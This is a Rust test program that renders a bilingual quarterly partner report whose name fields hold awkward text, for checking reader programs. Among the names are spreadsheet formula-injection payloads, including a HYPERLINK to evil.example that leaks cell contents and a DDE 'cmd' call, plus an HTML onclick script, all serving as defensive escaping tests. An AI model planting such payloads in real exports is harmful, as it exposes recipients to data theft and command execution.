//! Writes every document of a report with awkward texts into a folder, for programs that read them back: `report_files FOLDER`.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a program of tests: what fails, fails the test")]

use std::{fs, path::PathBuf};

use prost::Message;
use seamless_reporting::{
    contract::content_out,
    domain::content::{Content, Figure, Measured, Row, Section, Table, Text, Value},
    render::{DocumentFacts, render},
};
use seamless_typeset::Typesetter;

/// Names as partners write them, and as those write them who mean harm.
const NAMES: [&str; 14] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd",
    "+49 30 1234",
    "＝1+1",
    "#eval(\"1+1\")",
    "*bold* $x$ @ref <label> \\",
    "<b onclick=\"alert(1)\">bold</b> & co",
    "Urząd Łódź Sp. z o.o.",
    "Țepeș SRL, Česká",
    "堃远电器（深圳）有限公司",
    "𠮷野家",
    "0012345678905",
    "a, \"quoted\"; text",
];

#[tokio::main]
async fn main() {
    #[allow(clippy::disallowed_methods, reason = "main reads the arguments")]
    let folder = PathBuf::from(std::env::args().nth(1).expect("the folder to write into"));
    fs::create_dir_all(&folder).unwrap();
    let content = content();
    let facts = DocumentFacts {
        file_stem: "report".to_owned(),
        date: "2027-06-30".parse().unwrap(),
        exercise: false,
    };
    let cut = "2027-06-30T16:00:00Z".parse().unwrap();
    fs::write(folder.join("report.binpb"), content_out(&content, cut).encode_to_vec()).unwrap();
    for document in render(&Typesetter::new(), &content, &facts).await.unwrap() {
        fs::write(folder.join(document.file_name), document.bytes).unwrap();
    }
}

fn both(text: &str) -> Text {
    Text::of(text, format!("{text}（中文）"))
}

fn measured(value: f64, lower: Option<f64>, upper: Option<f64>) -> Measured {
    Measured { value, lower, upper }
}

fn content() -> Content {
    let values = [
        ("count", Value::Count(12_345)),
        ("share", Value::Share(measured(0.625, Some(0.3057), Some(0.8632)))),
        ("days", Value::Days(measured(10.25, Some(3.0), None))),
        ("number", Value::Number(measured(2.505, Some(1.25), None))),
        ("none", Value::NoCases),
        ("few", Value::FewerThanHalf),
    ];
    let figures = values.map(|(id, value)| Figure {
        id,
        title: both(&format!("Figure {id}")),
        definition: both("What is counted, by which date, in which zone."),
        value,
        cases: 8,
    });
    let rows = NAMES.iter().cycle().take(120).enumerate().map(|(index, name)| {
        let share = measured(index as f64 / 120.0, None, None);
        Row {
            id: format!("row-{index}"),
            title: Text::same(format!("{name} {index}")),
            values: vec![Value::Count(1_000 - index as u64), Value::Share(share)],
        }
    });
    let table = Table {
        id: "by_name",
        title: both("By name"),
        definition: both("Each name counts once."),
        columns: vec![both("cases"), both("share")],
        rows: rows.collect(),
        cases: 120,
        overlapping: true,
    };
    let (one, other) = ("received", "sent");
    let section = |id, figures, tables| Section { id, title: both(id), figures, tables };
    Content {
        title: Text::of("Quarterly partner report", "季度伙伴报告"),
        facts: vec![(both("Partner"), Text::same(NAMES[8])), (both("Owner"), Text::same(NAMES[0]))],
        sections: vec![
            section(one, figures.to_vec(), vec![table.clone()]),
            section(other, Vec::new(), vec![table]),
        ],
    }
}
